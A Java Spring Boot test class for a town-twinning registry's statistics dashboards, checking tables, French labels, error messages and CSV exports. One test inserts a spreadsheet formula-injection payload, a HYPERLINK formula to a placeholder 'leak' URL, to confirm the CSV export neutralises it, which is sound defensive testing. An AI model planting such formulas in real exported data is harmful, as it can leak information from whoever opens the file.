package org.twinningregistry.analytics;

import java.time.Duration;
import java.util.Locale;

import org.awaitility.Awaitility;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;
import org.twinningregistry.RegistryDatabase;
import org.twinningregistry.agreement.AgreementRegistry;
import org.twinningregistry.engagement.EngagementLog;
import org.twinningregistry.account.SystemCurator;
import org.twinningregistry.gazetteer.Gazetteer;
import org.twinningregistry.gazetteer.GovernmentDetails;
import org.twinningregistry.gazetteer.GovernmentId;
import org.twinningregistry.gazetteer.GovernmentValues;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

/**
 * The statistics pages over {@link StatisticsFixture}: the figures computed by hand in
 * {@link StatisticsIntegrationTests} appear in the pages' tables, in English and French,
 * and a bad choice is explained with a 400 rather than failing.
 */
@SpringBootTest
@AutoConfigureMockMvc
class DashboardPagesTests {

	@Autowired
	MockMvc mvc;

	@Autowired
	Gazetteer gazetteer;

	@BeforeEach
	void fixture(@Autowired JdbcClient jdbc, @Autowired AgreementRegistry agreements,
			@Autowired EngagementLog engagements) {
		RegistryDatabase.clear(jdbc);
		StatisticsFixture.build(this.gazetteer, agreements, engagements);
	}

	@Test
	void nationalDashboardShowsCanadasFigures() throws Exception {
		// when
		String page = page("/statistics?country=CA&asOf=2019-12-31", 200);

		// then
		assertThat(PageTables.rows(page, "partners-table")).containsExactly(country("KR") + " | 1 | 4 | 4",
				country("JP") + " | 2 | 3 | 3", country("US") + " | 3 | 1 | 1");
		assertThat(PageTables.rows(page, "subdivisions-table")).containsExactly("British Columbia | 5", "Ontario | 2",
				"Manitoba | 1");
		assertThat(PageTables.head(page, "years-table"))
			.endsWith("Year All " + country("KR") + " " + country("JP") + " " + country("US"));
		// every year from the first signing (1965) to the last (2016), 0 where none
		assertThat(PageTables.rows(page, "years-table")).hasSize(52)
			.contains("2012 | 1 | 1 | 0 | 0", "2016 | 1 | 0 | 1 | 0", "1966 | 0 | 0 | 0 | 0");
		assertThat(page).contains("<span class=\"figure-count\">8</span>", "<span class=\"figure-count\">7</span>")
			.contains("href=\"/statistics/bilateral?country=CA&amp;partner=KR&amp;asOf=2019-12-31\"")
			.contains("href=\"/statistics/subdivisions/CA-BC?asOf=2019-12-31\"")
			.contains("href=\"/api/v1/statistics/countries/CA?asOf=2019-12-31&amp;format=csv\"")
			.contains("data-chart=\"bar\"", "/js/charts.js");
	}

	@Test
	void bilateralDashboardShowsActivityAndDormancy() throws Exception {
		// when
		String page = page("/statistics/bilateral?country=CA&partner=KR&asOf=2019-12-31&window=5", 200);

		// then
		assertThat(page).contains("<span class=\"figure-count\">4</span>", "<span class=\"figure-count\">3</span>",
				"<span class=\"figure-count\">1</span>", "<span class=\"figure-count\">20%</span>");
		assertThat(PageTables.rows(page, "subdivisions-table")).containsExactly("British Columbia | 2 | 2 | 30%",
				"Manitoba | 1 | 0 | 0%", "Ontario | 1 | 1 | 20%");
		assertThat(PageTables.rows(page, "categories-table")).containsExactly("Administrative | 1 | 1 | 1 | 3",
				"Culture | 1 | 0 | 0 | 1", "Economy | 1 | 1 | 0 | 2", "Education | 0 | 0 | 1 | 1",
				"Youth | 0 | 1 | 0 | 1");
		assertThat(PageTables.attributes(page, "activity-grid", "data-substantive"))
			.containsExactly("0 | 1 | 0 | 1 | 0", "0 | 0 | 0 | 0 | 1", "1 | 0 | 0 | 0 | 0", "0 | 0 | 0 | 0 | 0");
		assertThat(PageTables.attributes(page, "activity-grid", "data-greetings")).containsExactly("0 | 0 | 0 | 0 | 1",
				"0 | 0 | 0 | 0 | 0", "0 | 0 | 1 | 0 | 0", "0 | 0 | 1 | 0 | 0");
		assertThat(page).contains("class=\"cell shade-1\"", "class=\"cell shade-greetings\"");
		assertThat(PageTables.rows(page, "activity-grid").get(3)).startsWith("WIN – HWA dormant agreement a12");
		assertThat(page).contains("<tr class=\"dormant\">", "href=\"/agreements/a12\"")
			.contains(
					"href=\"/api/v1/statistics/activity?country=CA&amp;partner=KR&amp;asOf=2019-12-31&amp;window=5&amp;format=csv\"");
	}

	@Test
	void provinceViewShowsBritishColumbia() throws Exception {
		// when
		String page = page("/statistics/subdivisions/CA-BC?asOf=2019-12-31", 200);

		// then
		assertThat(page).contains("<span class=\"figure-count\">5</span>", "<span class=\"figure-count\">12%</span>");
		assertThat(PageTables.rows(page, "partners-table")).containsExactly(country("JP") + " | 2 | 0",
				country("KR") + " | 2 | 2", country("US") + " | 1 | 0");
		assertThat(PageTables.rows(page, "activity-grid")).hasSize(5);
	}

	@Test
	void scorecardShowsAGovernmentsAgreementsAndMix() throws Exception {
		// when
		String page = page("/statistics/governments/hwa?asOf=2019-12-31&window=5", 200);

		// then
		String canada = country("CA");
		assertThat(PageTables.rows(page, "agreements-table")).containsExactly(
				"WIN | " + canada + " | Sister | 2001 | 18 | Yes | none | 0% | dormant",
				"TOR | " + canada + " | Sister | 2005 | 14 | Yes | 2019 | 20% | active",
				"BUR | " + canada + " | Sister | 2010-07 | 9 | Yes | 2018 | 40% | active");
		assertThat(PageTables.rows(page, "categories-table")).containsExactly("Administrative | 2", "Culture | 1",
				"Education | 1", "Youth | 1");
		assertThat(PageTables.rows(page, "direction-table")).containsExactly("This government | 1", "Its partners | 2",
				"Both sides | 2");
	}

	@Test
	void mapListsTheLinesItDraws() throws Exception {
		// when
		String page = page("/statistics/map?country=CA&partner=KR&asOf=2019-12-31", 200);

		// then: every relationship, Winnipeg's too (its coordinates from the gazetteer)
		assertThat(PageTables.rows(page, "lines-table")).containsExactly("BUR – HWA | " + country("KR") + " | active",
				"TOR – HWA | " + country("KR") + " | active", "VAN – SEO | " + country("KR") + " | active",
				"WIN – HWA | " + country("KR") + " | dormant");
		assertThat(page)
			.contains(
					"data-source=\"/api/v1/statistics/map?country=CA&amp;partner=KR&amp;asOf=2019-12-31&amp;window=5\"")
			.contains("data-world=\"/webjars/echarts/");
		assertThat(PageTables.rows(page("/statistics/map?country=CA&asOf=2019-12-31", 200), "lines-table")).hasSize(8);
	}

	@Test
	void speaksFrench() throws Exception {
		// when
		String page = page("/statistics?country=CA&asOf=2019-12-31&lang=fr", 200);

		// then
		assertThat(page).contains("Statistiques de jumelage : Canada", "Pays partenaires, par rang",
				"Nouvelles ententes par année", "Colombie-Britannique");
		assertThat(PageTables.head(page, "partners-table")).contains("Partenaire Rang Ententes en vigueur Relations");
		assertThat(page("/statistics/bilateral?country=CA&partner=KR&asOf=2019-12-31&lang=fr", 200))
			.contains("Activité année par année", "en sommeil", "Ententes en sommeil");
	}

	@Test
	void explainsBadChoicesInsteadOfFailing() throws Exception {
		// then
		assertThat(page("/statistics?country=XX", 400)).contains("These figures cannot be shown",
				"&#39;XX&#39; is not an ISO 3166-1 alpha-2 country code.");
		assertThat(page("/statistics/bilateral?country=CA&partner=KR&window=0", 400))
			.contains("The window is a number of years from 1 to 50, not 0.");
		assertThat(page("/statistics?asOf=2019-13-45", 400))
			.contains("&#39;2019-13-45&#39; is not a valid value for asOf.");
		assertThat(page("/statistics/map?country=CA&window=many", 400)).contains("not a valid value for window");
		assertThat(page("/statistics/subdivisions/CA-XX", 400)).contains("is not an ISO 3166-2 subdivision code");
		assertThat(page("/statistics/governments/nobody", 404)).contains("Page not found");
	}

	@Test
	void linksTheGovernmentPageToItsScorecardAndServesCsv() throws Exception {
		// then
		assertThat(page("/governments/hwa", 200)).contains("href=\"/statistics/governments/hwa\"");
		assertThat(page("/api/v1/statistics/activity?country=CA&partner=KR&asOf=2019-12-31&format=csv", 200))
			.contains("activity.greetings,win/hwa,2017,1\r\n", "activity.active,win/hwa,,false\r\n");
		assertThat(page("/api/v1/statistics/subdivisions/CA-BC?asOf=2019-12-31&format=csv", 200))
			.contains("partners.active,KR,,2\r\n", "relationships,,,5\r\n");
	}

	@Test
	void theActivityCsvKeepsANameFromRunningAsASpreadsheetFormula() throws Exception {
		// given: a government whose name a spreadsheet would run as a formula
		String formula = "=HYPERLINK(\"http://example.org/?leak\",\"Windsor\")";
		SystemCurator.call(() -> {
			GovernmentDetails windsor = this.gazetteer.get(new GovernmentId("win"));
			GovernmentValues v = windsor.values();
			return this.gazetteer.update(windsor.id(), windsor.version(),
					new GovernmentValues(formula, v.nameFr(), v.nameLocal(), v.country(), v.subdivision(), v.level(),
							v.parent(), v.population(), v.latitude(), v.longitude(), v.wikidata(), v.geonames()));
		});

		// when: the agreements' copy of the name is refreshed after the commit
		String url = "/api/v1/statistics/activity?country=CA&partner=KR&asOf=2019-12-31&format=csv";
		String csv = Awaitility.await()
			.atMost(Duration.ofSeconds(10))
			.until(() -> page(url, 200), text -> text.contains("HYPERLINK"));

		// then: text, as typed, behind an apostrophe that spreadsheets hide
		assertThat(csv).contains("activity.homeName,win/hwa,,\"'=HYPERLINK(\"\"http://example.org/?leak\"\",")
			.doesNotContain(",=HYPERLINK", ",\"=HYPERLINK");
	}

	@Test
	void servesTheFrontEndLibrariesFromWebJars() throws Exception {
		// then
		assertThat(page("/webjars/chart.js/dist/chart.umd.js", 200)).contains("Chart");
		assertThat(page("/webjars/leaflet/dist/leaflet.js", 200)).contains("Leaflet");
		assertThat(page("/webjars/echarts/map/json/world.json", 200)).startsWith("{\"type\":\"FeatureCollection\"");
		assertThat(page("/statistics", 200)).contains("<a href=\"/statistics/map\"");
	}

	private String page(String url, int status) throws Exception {
		MvcResult result = this.mvc.perform(get(url)).andReturn();
		assertThat(result.getResponse().getStatus()).as(url).isEqualTo(status);
		return result.getResponse().getContentAsString(java.nio.charset.StandardCharsets.UTF_8);
	}

	private String country(String code) {
		return this.gazetteer.countryName(code, Locale.ENGLISH);
	}

}
